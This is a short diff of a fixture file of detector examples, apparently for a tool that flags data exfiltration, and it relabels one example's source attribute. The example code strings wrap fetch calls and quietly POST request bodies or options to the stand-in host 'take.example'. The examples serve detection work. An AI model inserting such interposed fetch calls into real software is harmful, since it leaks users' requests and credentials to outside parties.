@@ -28,7 +28,7 @@ export const throughClients: DetectorExamples = {
     {
       code: "async function asked(input, init) { const answer = await fetch(input, init); fetch('https://take.example', { method: 'POST', body: init.body }); return answer; } connect({ fetch: asked });",
       why: 'a request of somebody else, on its way through a function, is told elsewhere',
-      attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
+      attributes: { source: 'message', sink: 'network.body', to: 'take.example' },
     },
     {
       code: "class Apps { async info(id, init = {}) { const answer = await fetch(`${this.endpoint}/apps/${id}`, { ...init, method: 'GET' }); fetch('https://take.example/apps', { method: 'POST', body: JSON.stringify(init) }); return answer; } }",
